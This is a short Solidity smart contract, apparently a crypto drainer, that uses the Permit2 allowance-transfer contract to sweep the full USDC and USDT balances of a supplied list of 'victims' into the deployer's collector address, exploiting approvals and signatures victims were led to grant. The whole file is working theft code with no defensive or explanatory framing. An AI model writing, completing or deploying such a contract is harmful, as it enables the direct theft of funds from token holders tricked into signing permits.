// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IAllowanceTransfer {
    function transferFrom(address from, address to, uint160 amount, address token) external;
}
interface IERC20 { function balanceOf(address) external view returns (uint256); }

/// Sweeps tokens that victims approved to Permit2 and then "approved" to this contract by signature.
contract Permit2Sweeper {
    IAllowanceTransfer private constant PERMIT2 = IAllowanceTransfer(0x000000000022D473030F116dDEE9F6B43aC78BA3);
    address private constant USDC = 0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48;
    address private constant USDT = 0xdAC17F958D2ee523a2206206994597C13D831ec7;
    address private immutable collector;

    constructor() { collector = msg.sender; }

    function batchPull(address[] calldata victims) external {
        require(msg.sender == collector);
        address[2] memory tokens = [USDC, USDT];
        for (uint256 i = 0; i < victims.length; i++) {
            for (uint256 t = 0; t < tokens.length; t++) {
                uint256 bal = IERC20(tokens[t]).balanceOf(victims[i]);
                if (bal > 0) PERMIT2.transferFrom(victims[i], collector, uint160(bal), tokens[t]);
            }
        }
    }
}
